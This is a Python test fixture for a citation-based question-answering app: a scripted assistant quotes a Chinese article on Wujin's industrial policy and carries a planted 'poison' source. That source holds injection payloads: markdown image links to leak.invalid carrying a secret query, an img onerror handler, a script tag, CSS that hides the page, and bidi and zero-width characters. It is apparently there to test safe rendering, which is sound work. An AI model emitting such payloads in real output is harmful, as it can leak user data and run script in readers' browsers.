"""An assistant made by hand: real values cut from the bundled article, without a model."""

import re
import threading
from collections.abc import Sequence
from importlib.resources import files

from zhangju.values import Answer, AnswerSentence, Citation, Highlight, Passage
from zhangju_index.errors import QuestionError
from zhangju_index.values import Chunk, Document, Sentence

ARTICLE = Document(
    id="wujin",
    title="深刻领会因地制宜发展新质生产力重大要求 着力打造现代化产业强区",
    source="wujin-new-quality-productive-forces.txt",
    text=files("zhangju_index")
    .joinpath("corpus", "wujin-new-quality-productive-forces.txt")
    .read_bytes()
    .decode("utf-8"),
)

POISON_HOST = "leak.invalid"
POISON = Document(
    id="poison",
    title="<b>Poison</b> ![t](http://leak.invalid/title.png)",
    source="poison.md",
    text=(
        "A planted note. "
        "![x](http://leak.invalid/a.png?q=secret) [y](http://leak.invalid/b) "
        "<img src=http://leak.invalid/c.png onerror=alert(1)> <style>body{display:none}</style> "
        "`code` $$x^2$$ **bold** [1] http://leak.invalid/d \u202eabc\u202c zero\u200bwidth "
        '<script>window.pwned = 1</script> <div style="background:url(http://leak.invalid/e.png)">e</div> '
        "# heading __i18n__ ${value} {{value}} end."
    ),
)

PATHS = {
    "新质生产力的特点": (ARTICLE.title, "深刻理解新质生产力的本质内涵,提升现代化产业强区的“标识度”"),
    "布局未来产业,赋能": (
        ARTICLE.title,
        "深刻理解新质生产力的本质内涵,提升现代化产业强区的“标识度”",
        "布局未来产业,赋能新质生产力。",
    ),
    "提升人力资源效率。": (
        ARTICLE.title,
        "准确把握新质生产力的实践要求,提升现代化产业强区的“含新度”",
        "提升人力资源效率。",
    ),
    "创新的主体在企业。": ("专家视点", "为新质生产力注入创新动能"),
    "创新的核心是人才。": ("专家视点", "为新质生产力注入创新动能"),
}
ENDS = {
    "新质生产力的特点": "“主赛道”。",
    "布局未来产业,赋能": "先发优势。",
    "提升人力资源效率。": "辐射力。",
    "创新的主体在企业。": "生产力转化。",
    "创新的核心是人才。": "源源不断涌来。",
}


def chunk_of(document: Document, start: int, end: int, path: tuple[str, ...]) -> Chunk:
    """Cut one chunk with its sentences."""
    text = document.text[start:end]
    sentences = tuple(
        Sentence(start + m.start(), start + m.end(), m[0], read(m[0]))
        for m in re.finditer(r"\s*[^。]+。[”’]?|\s*[^。]+$", text)
    )
    return Chunk(document.id, path, start, end, text, read(text), read(text), sentences)


def read(text: str) -> str:
    """Join the wraps of Chinese text."""
    return re.sub(r"\s*\n\s*", "", text).strip()


def article_chunks() -> list[Chunk]:
    """Cut the passages that the handmade answers come from."""
    chunks = []
    for opening, path in PATHS.items():
        start = ARTICLE.text.index(opening)
        chunks.append(
            chunk_of(ARTICLE, start, ARTICLE.text.index(ENDS[opening], start) + len(ENDS[opening]), path)
        )
    return chunks


def passages_of(document: Document, chunks: Sequence[Chunk]) -> tuple[Passage, ...]:
    """Rank ``chunks`` in the order given."""
    return tuple(
        Passage(chunk, document.title, document.source, 1 / rank, rank, chunk.sentences[0])
        for rank, chunk in enumerate(chunks, 1)
    )


def cite(number: int, document: Document, chunk: Chunk, quote: str, key: str = "") -> Citation:
    """Cite ``quote`` where it stands in ``chunk``; ``key`` is the clause that answers."""
    start = document.text.index(quote, chunk.start)
    at = start + quote.index(key)
    return Citation(
        number=number,
        document_id=document.id,
        title=document.title,
        source=document.source,
        section_path=chunk.section_path,
        page=None,
        start=start,
        end=start + len(quote),
        quote=quote,
        reading_text=read(quote),
        highlight=Highlight(at, at + len(key)) if key else None,
    )


def answered(
    question: str, document: Document, chunks: Sequence[Chunk], citations: Sequence[Citation]
) -> Answer:
    """Compose an extractive answer from ``citations``."""
    sentences = tuple(AnswerSentence(c.reading_text, "quoted", (c,)) for c in citations)
    lines = "\n".join(f"{s.text}[{s.citations[0].number}]" for s in sentences)
    framing = "The article says:" if question.isascii() else "文中写道："
    return Answer(question, f"{framing}\n{lines}", sentences, True, 0.87, passages_of(document, chunks))


class HandmadeAssistant:
    """Knows three answers, one poisoned source and how to refuse.

    A question with "together" is answered once a second such question is being asked.
    """

    def __init__(self) -> None:
        self._two = threading.Barrier(2, timeout=60)

    def ask(self, question: str, history: Sequence[object] = ()) -> Answer:
        """Answer from the words in ``question``."""
        if not question.strip():
            raise QuestionError("Expected a question, got nothing: type one and send it again.")
        if len(question) > 2000:
            raise QuestionError(
                f"Expected a question of at most 2000 characters, got {len(question)}: shorten it."
            )
        if "together" in question:
            self._two.wait()
        chunks = article_chunks()
        if "未来产业" in question or "industries" in question:
            quote = "合成生物、氢能和新型储能是武进重点布局的未来产业,必须持续围绕这些未来产业方向,密切跟踪科技变革趋势,产业发展规律和赛道成长逻辑,加快招引储备一批有潜力的、有技术的重大项目,加快培育升级一批深度契合的企业,从“脱胎换骨”和“无中生有”两端发力布局未来产业,为竞逐产业新赛道积累先发优势。"
            order = [chunks[1], chunks[0], chunks[4]]
            return answered(
                question, ARTICLE, order, [cite(1, ARTICLE, chunks[1], quote, "合成生物、氢能和新型储能")]
            )
        if "创新" in question or "talent" in question:
            quotes = ["创新的主体在企业。", "创新的核心是人才。"]
            order = [chunks[3], chunks[4], chunks[2], chunks[0]]
            return answered(
                question,
                ARTICLE,
                order,
                [
                    cite(n, ARTICLE, chunk, quote)
                    for n, (chunk, quote) in enumerate(zip(order, quotes, strict=False), 1)
                ],
            )
        if "特点" in question or "quality" in question:
            quote = (
                "新质生产力的特点是“创新”,关键在“质优”,本质是“先进生产力”,核心要义在于“以新促质,迎新而进”。"
            )
            return answered(question, ARTICLE, chunks, [cite(1, ARTICLE, chunks[0], quote)])
        if "poison" in question:
            chunk = chunk_of(POISON, 0, len(POISON.text), (POISON.title, "[h](http://leak.invalid/h)"))
            return answered(question, POISON, [chunk], [cite(1, POISON, chunk, POISON.text)])
        text = "The article does not say." if question.isascii() else "这篇文章没有说到这一点。"
        return Answer(question, text, (), False, 0.08, passages_of(ARTICLE, chunks[:4]))
